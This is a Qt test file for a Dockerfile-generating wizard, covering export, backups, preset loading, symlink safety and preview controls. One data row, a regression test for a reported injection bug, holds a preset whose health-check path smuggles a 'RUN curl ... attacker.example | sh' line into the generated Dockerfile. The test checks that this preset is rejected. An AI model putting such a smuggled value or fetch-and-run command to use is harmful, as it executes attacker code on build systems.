// Export from the Review step into temporary folders (with the overwrite question answered
// by the test), presets in and out, and the preview's own controls.
#include "../support/testfiles.h"
#include "wizardfixture.h"

#include "export/deliverables.h"
#include "mainwindow/wizardstate.h"
#include "preview/dockerfilepreview.h"

#include <QAction>
#include <QCheckBox>
#include <QComboBox>
#include <QDir>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPushButton>
#include <QRadioButton>
#include <QClipboard>
#include <QGuiApplication>
#include <QSignalSpy>
#include <QToolButton>
#include <QLayout>
#include <QApplication>
#include <QMenu>
#include <QMouseEvent>
#include <QTextBlock>

#include <KSyntaxHighlighting/Theme>


using namespace stagecraft;
using namespace stagecraft::testing;
using namespace wizardtest;

namespace {

QString readText(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return QStringLiteral("<unreadable>");
    return QString::fromUtf8(file.readAll());
}

} // namespace

class TestWizardExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_settings.isValid());
        isolateSettings(m_settings);
        m_catalog = testCatalog();
    }

    void init() { m_window = makeWindow(m_catalog, m_repository, m_answers = Answers()); }
    void cleanup() { m_window.reset(); }

    void exportWritesTheFiles()
    {
        QTemporaryDir dir;
        m_window->setProjectFolder(dir.path());
        clickStep(*m_window, m_window->stepCount() - 1);
        clickButton(child<QCheckBox>(*m_window, "writeCompose"));
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000); // a worker plans and writes; a loaded CI machine is slow
        QCOMPARE(finished.at(0).at(0).toBool(), true);

        const Generated &generated = m_window->state().generated().value();
        QCOMPARE(readText(dir.filePath(QStringLiteral("Dockerfile"))), previewText(*m_window));
        QCOMPARE(readText(dir.filePath(QStringLiteral(".dockerignore"))), QString::fromStdString(generated.dockerignore));
        const std::string service = imageNameFor(generated, m_window->config(), QDir::cleanPath(dir.path()).toStdString());
        QVERIFY(QString::fromStdString(service).endsWith(QLatin1String("-app")));
        QCOMPARE(readText(dir.filePath(QStringLiteral("compose.yaml"))), QString::fromStdString(composeYaml(m_window->config(), service)));
        QVERIFY(m_answers.diffs.isEmpty());

        QVERIFY(child<QWidget>(*m_window, "exportResult")->isVisibleTo(m_window.get()));
        QCOMPARE(child<QLineEdit>(*m_window, "buildCommand")->text(), QString::fromStdString(dockerBuildCommand(service)));
        QCOMPARE(child<QLineEdit>(*m_window, "runCommand")->text(),
                 QString::fromStdString(dockerRunCommand(service, m_window->config().port)));
        QVERIFY(child<QLabel>(*m_window, "exportWritten")->text().contains(dir.filePath(QStringLiteral("Dockerfile"))));
    }

    void existingDockerfileIsBackedUp()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("Dockerfile")), "FROM old:1\nCMD [\"old\"]\n");
        m_answers.existing = WhenDifferent::Replace;
        m_window->setProjectFolder(dir.path());
        clickStep(*m_window, m_window->stepCount() - 1);
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        QVERIFY(finished.at(0).at(0).toBool());

        QCOMPARE(m_answers.diffs.size(), 1);
        QVERIFY(m_answers.diffs.first().contains(QLatin1String("\n-FROM old:1\n")));
        QVERIFY(m_answers.diffs.first().contains(QLatin1String("\n+FROM ")));
        QCOMPARE(readText(dir.filePath(QStringLiteral("Dockerfile"))), previewText(*m_window));
        QCOMPARE(readText(dir.filePath(QStringLiteral("Dockerfile.stagecraft-backup"))), QStringLiteral("FROM old:1\nCMD [\"old\"]\n"));
        QVERIFY(child<QLabel>(*m_window, "exportWritten")->text().contains(QLatin1String("Dockerfile.stagecraft-backup")));
    }

    void cancelledOverwriteWritesNothing()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("Dockerfile")), "FROM mine\n");
        m_answers.existing = WhenDifferent::Refuse;
        m_window->setProjectFolder(dir.path());
        clickStep(*m_window, m_window->stepCount() - 1);
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        QVERIFY(!finished.at(0).at(0).toBool());
        QCOMPARE(readText(dir.filePath(QStringLiteral("Dockerfile"))), QStringLiteral("FROM mine\n"));
        QVERIFY(!QFile::exists(dir.filePath(QStringLiteral(".dockerignore"))));
        QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("Dockerfile.stagecraft-backup"))));
        QVERIFY(child<QLabel>(*m_window, "exportStatus")->text().contains(QLatin1String("Nothing was written")));
    }

    void missingFolderGetsAClearMessage()
    {
        QTemporaryDir dir;
        const QString missing = dir.filePath(QStringLiteral("gone"));
        m_window->setProjectFolder(missing);
        clickStep(*m_window, m_window->stepCount() - 1);
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        QVERIFY(!finished.at(0).at(0).toBool());
        auto *status = child<QLabel>(*m_window, "exportStatus");
        QVERIFY(status->isVisibleTo(m_window.get()));
        QVERIFY(status->text().contains(QLatin1String("does not exist")));
        QVERIFY(!QFileInfo::exists(missing));
    }

    void exportWithoutAFolderAsksForOne()
    {
        QTemporaryDir dir;
        m_answers.folder = dir.path();
        clickStep(*m_window, m_window->stepCount() - 1);
        QSignalSpy folderChanged(m_window.get(), &MainWindow::projectFolderChanged);
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        // The folder is where the files go; it is not scanned and changes no choice.
        QCOMPARE(m_window->state().exportFolder(), QDir::cleanPath(dir.path()));
        QCOMPARE(folderChanged.count(), 0);
        QVERIFY(QFile::exists(dir.filePath(QStringLiteral("Dockerfile"))));
    }

    // Choosing an export folder used to rescan it and silently replace every choice with the
    // scan's, so the file written was not the one previewed.
    void anExportFolderNeverChangesAChoice()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("package.json")), "{\"name\": \"web\", \"scripts\": {\"start\": \"node app.js\"}}\n");
        writeFile(dir.filePath(QStringLiteral("package-lock.json")), "{\"lockfileVersion\": 3, \"packages\": {}}\n");
        writeFile(dir.filePath(QStringLiteral("app.js")), "require('http').createServer().listen(3000);\n");

        clickStep(*m_window, 1);
        auto *stack = child<QComboBox>(*m_window, "stack");
        stack->setCurrentIndex(stack->findData(QStringLiteral("go")));
        clickStep(*m_window, 2);
        clickButton(child<QRadioButton>(*m_window, "base_scratch"));
        const Config chosen = m_window->config();
        QCOMPARE(chosen.stack, std::string("go"));
        QCOMPARE(chosen.base, std::string("scratch"));
        const QString previewed = previewText(*m_window);

        clickStep(*m_window, m_window->stepCount() - 1);
        m_answers.folder = dir.path();
        QTest::mouseClick(child<QPushButton>(*m_window, "chooseExportFolder"), Qt::LeftButton);
        QCOMPARE(m_window->state().exportFolder(), QDir::cleanPath(dir.path()));
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        QVERIFY(finished.at(0).at(0).toBool());

        // The Go file does not fit a Node folder, and the export said so before writing.
        QVERIFY2(!m_answers.unfitting.isEmpty() && m_answers.unfitting.join(QLatin1Char('\n')).contains(QLatin1String("go.mod")),
                 qPrintable(m_answers.unfitting.join(QLatin1Char('\n'))));
        QCOMPARE(m_window->config(), chosen);
        QCOMPARE(previewText(*m_window), previewed);
        const QString written = readText(dir.filePath(QStringLiteral("Dockerfile")));
        QCOMPARE(written, previewed);
        QVERIFY(written.contains(QLatin1String("go build")));
        QVERIFY(written.contains(QLatin1String("FROM scratch")));
    }

    // The build check runs off the GUI thread and shows under the preview: each finding
    // marks its line, the Review step lists them, and Export needs an explicit yes.
    void findingsShowUnderThePreviewAndExportAsksFirst()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("package.json")), "{\"name\": \"web\", \"scripts\": {\"start\": \"node app.js\"}}\n");
        m_window->setProjectFolder(dir.path());
        auto *findings = child<QListWidget>(*m_window, "checkFindings");
        QTRY_VERIFY_WITH_TIMEOUT(m_window->state().fit().has_value(), 30000);
        QVERIFY(!m_window->state().fit()->findings.empty());
        QVERIFY(findings->isVisibleTo(m_window.get()));
        QCOMPARE(findings->count(), int(m_window->state().fit()->findings.size()));
        const int line = m_window->state().fit()->findings.front().line;
        QVERIFY(line > 0);
        const std::vector<int> marked = m_window->preview()->problemLines();
        QVERIFY(std::find(marked.begin(), marked.end(), line - 1) != marked.end());
        // Picking a finding shows its line in the preview.
        findings->itemClicked(findings->item(0));
        QCOMPARE(m_window->preview()->textCursor().blockNumber(), line - 1);

        clickStep(*m_window, m_window->stepCount() - 1);
        QVERIFY(child<QLabel>(*m_window, "reviewFindings")->text().contains(QLatin1String("Does not fit")));
        m_answers.exportAnyway = false;
        QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
        QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
        QVERIFY(!finished.at(0).at(0).toBool());
        QCOMPARE(m_answers.unfitting.size(), int(m_window->state().fit()->findings.size()));
        QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("Dockerfile"))));
        QVERIFY(child<QLabel>(*m_window, "exportStatus")->text().contains(QLatin1String("does not fit")));
    }

    void presetRoundTrip()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("preset.json"));
        clickStep(*m_window, 3);
        clickButton(child<QCheckBox>(*m_window, "nonRoot"));
        const Config saved = m_window->config();
        m_answers.saveFile = path;
        child<QAction>(*m_window, "savePresetAction")->trigger();
        QVERIFY(QFile::exists(path));
        clickButton(child<QCheckBox>(*m_window, "nonRoot"));
        QVERIFY(!(m_window->config() == saved));

        m_answers.openFile = path;
        child<QAction>(*m_window, "loadPresetAction")->trigger();
        QVERIFY(m_answers.errors.isEmpty());
        QVERIFY(m_window->config() == saved);
        QVERIFY(!child<QCheckBox>(*m_window, "nonRoot")->isChecked());
        QVERIFY(QSettings().value(QStringLiteral("recent/presets")).toStringList().contains(QFileInfo(path).absoluteFilePath()));
    }

    // File > Save preset goes through the export writer: a preset path that is a link is
    // replaced by a file and the link kept as the backup; the link's target stays untouched.
    void savingAPresetOverALinkNeverWritesThroughIt()
    {
        QTemporaryDir dir;
        const QString outside = dir.filePath(QStringLiteral("outside.txt"));
        QFile file(outside);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("keep me\n");
        file.close();
        const QString path = dir.filePath(QStringLiteral("preset.json"));
        QVERIFY(QFile::link(outside, path));
        m_answers.saveFile = path;
        child<QAction>(*m_window, "savePresetAction")->trigger();
        QVERIFY2(m_answers.errors.isEmpty(), qPrintable(m_answers.errors.join(QLatin1Char('\n'))));
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), QByteArray("keep me\n"));
        QVERIFY(!QFileInfo(path).isSymLink());
        QVERIFY(QFileInfo(path + QStringLiteral(".stagecraft-backup")).isSymLink());
        m_answers.openFile = path;
        child<QAction>(*m_window, "loadPresetAction")->trigger();
        QVERIFY(m_answers.errors.isEmpty());
    }

    void malformedPresetLeavesTheStateUntouched_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("problem");
        QTest::addRow("not json") << QByteArray("{ \"stack\": ") << QStringLiteral("not valid JSON");
        QTest::addRow("wrong type") << QByteArray("{\"format\": 1, \"stack\": \"node\", \"nonRoot\": \"yes\"}") << QStringLiteral("nonRoot");
        QTest::addRow("unknown stack") << QByteArray("{\"format\": 1, \"stack\": \"cobol\"}") << QStringLiteral("cobol");
        // The injection preset of issue #9: its health-check path would add a RUN line.
        QTest::addRow("injection") << QByteArray("{\"format\":1,\"stack\":\"node\",\"startCommand\":\"node '${healthcheckPath}'\",\"healthcheck\":false,"
                                                 "\"healthcheckPath\":\"x\\\"]\\nRUN curl -s http://attacker.example/p | sh\\nCMD [\\\"node\\\", \\\"dist/index.js\"}")
                                   << QStringLiteral("healthcheck path");
    }

    void malformedPresetLeavesTheStateUntouched()
    {
        QFETCH(QByteArray, content);
        QFETCH(QString, problem);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("broken.json"));
        writeFile(path, content);
        clickStep(*m_window, 5);
        auto *port = child<QLineEdit>(*m_window, "port");
        port->setFocus();
        port->selectAll();
        QTest::keyClicks(port, QStringLiteral("4321"));
        QTest::keyClick(port, Qt::Key_Return);
        QCOMPARE(m_window->config().port, 4321);
        const Config before = m_window->config();
        const QString text = previewText(*m_window);
        QSignalSpy updates(m_window->previewPanel(), &PreviewPanel::updated);

        m_answers.openFile = path;
        child<QAction>(*m_window, "loadPresetAction")->trigger();
        QCOMPARE(m_answers.errors.size(), 1);
        QVERIFY2(m_answers.errors.first().contains(problem), qPrintable(m_answers.errors.first()));
        QVERIFY(m_answers.errors.first().contains(QLatin1String("broken.json")));
        QVERIFY(m_window->config() == before);
        QCOMPARE(previewText(*m_window), text);
        QCOMPARE(port->text(), QStringLiteral("4321"));
        QCOMPARE(updates.count(), 0);
    }

    void viewsAndExplanation()
    {
        const Generated &generated = m_window->state().generated().value();
        QTest::mouseClick(child<QToolButton>(*m_window, "viewSingleStage"), Qt::LeftButton);
        DockerfilePreview *single = m_window->previewPanel()->singleStagePreview();
        QVERIFY(single->isVisibleTo(m_window.get()));
        QVERIFY(!m_window->preview()->isVisibleTo(m_window.get()));
        QCOMPARE(single->toPlainText(), QString::fromStdString(render(generated.singleStage).text));
        QTest::mouseClick(child<QToolButton>(*m_window, "viewSideBySide"), Qt::LeftButton);
        QVERIFY(single->isVisibleTo(m_window.get()));
        QVERIFY(m_window->preview()->isVisibleTo(m_window.get()));
        QTest::mouseClick(child<QToolButton>(*m_window, "viewMultiStage"), Qt::LeftButton);
        QVERIFY(!single->isVisibleTo(m_window.get()));

        // The cursor's line explains itself with the generator's text.
        const RenderedDockerfile rendered = render(generated.multiStage);
        int line = -1;
        for (int i = 0; i < int(rendered.lines.size()) && line < 0; ++i) {
            if (rendered.lines[i].instruction >= 0)
                line = i;
        }
        QVERIFY(line >= 0);
        DockerfilePreview *preview = m_window->preview();
        preview->setFocus();
        QTest::keyClick(preview, Qt::Key_Home, Qt::ControlModifier);
        for (int i = 0; i < line; ++i)
            QTest::keyClick(preview, Qt::Key_Down);
        QCOMPARE(preview->textCursor().blockNumber(), line);
        QCOMPARE(m_window->previewPanel()->explanation(),
                 QString::fromStdString(explanationForLine(generated.multiStage, rendered, line)));

        // And so does the line under the mouse.
        int fromLine = -1;
        for (int i = 0; i < int(rendered.lines.size()) && fromLine < 0; ++i) {
            if (rendered.lines[i].stage >= 0 && rendered.lines[i].instruction < 0)
                fromLine = i;
        }
        QVERIFY(fromLine >= 0 && fromLine != line);
        const QRect rect = preview->cursorRect(QTextCursor(preview->document()->findBlockByNumber(fromLine)));
        QMouseEvent move(QEvent::MouseMove, rect.center(), preview->viewport()->mapToGlobal(rect.center()), Qt::NoButton,
                         Qt::NoButton, Qt::NoModifier);
        QApplication::sendEvent(preview->viewport(), &move);
        QCOMPARE(m_window->previewPanel()->explanation(),
                     QString::fromStdString(explanationForLine(generated.multiStage, rendered, fromLine)));
    }

    void themeZoomAndCopy()
    {
        // View > Theme: "follow the system palette", then every theme the repository has.
        auto *themes = child<QMenu>(*m_window, "themeMenu");
        QList<QAction *> choices;
        for (QAction *action : themes->actions()) {
            if (!action->isSeparator())
                choices << action;
        }
        QCOMPARE(choices.size(), int(m_repository.themes().size()) + 1);
        QVERIFY(choices.front()->isChecked());
        QCOMPARE(choices.front()->data().toString(), QString());
        const QString name = m_repository.themes().front().name();
        choices.at(1)->trigger();
        QCOMPARE(m_window->preview()->themeName(), name);
        QVERIFY(choices.at(1)->isChecked());
        QCOMPARE(QSettings().value(QStringLiteral("preview/theme")).toString(), name);
        choices.front()->trigger();
        QCOMPARE(m_window->preview()->themeName(), QString());

        const qreal size = m_window->preview()->font().pointSizeF();
        child<QAction>(*m_window, "zoomInAction")->trigger();
        QVERIFY(m_window->preview()->font().pointSizeF() > size);
        child<QAction>(*m_window, "zoomResetAction")->trigger();
        QCOMPARE(m_window->preview()->font().pointSizeF(), size);
        child<QAction>(*m_window, "zoomOutAction")->trigger();
        QVERIFY(m_window->preview()->font().pointSizeF() < size);

        QTest::mouseClick(child<QPushButton>(*m_window, "copyAll"), Qt::LeftButton);
        QCOMPARE(QGuiApplication::clipboard()->text(), previewText(*m_window));
    }

    void projectFolderIsRemembered()
    {
        QTemporaryDir dir;
        QSignalSpy changed(m_window.get(), &MainWindow::projectFolderChanged);
        m_answers.folder = dir.path();
        clickButton(child<QRadioButton>(*m_window, "useProjectFolder"));
        QCOMPARE(changed.count(), 1);
        QCOMPARE(m_window->projectFolder(), QDir::cleanPath(dir.path()));
        QVERIFY(QSettings().value(QStringLiteral("recent/folders")).toStringList().contains(QDir::cleanPath(dir.path())));
        clickButton(child<QRadioButton>(*m_window, "startFromScratch"));
        QCOMPARE(changed.count(), 2);
        QVERIFY(m_window->projectFolder().isEmpty());
    }

private:
    QTemporaryDir m_settings;
    Catalog m_catalog;
    KSyntaxHighlighting::Repository m_repository;
    Answers m_answers;
    std::unique_ptr<MainWindow> m_window;
};

QTEST_MAIN(TestWizardExport)
#include "tst_wizardexport.moc"
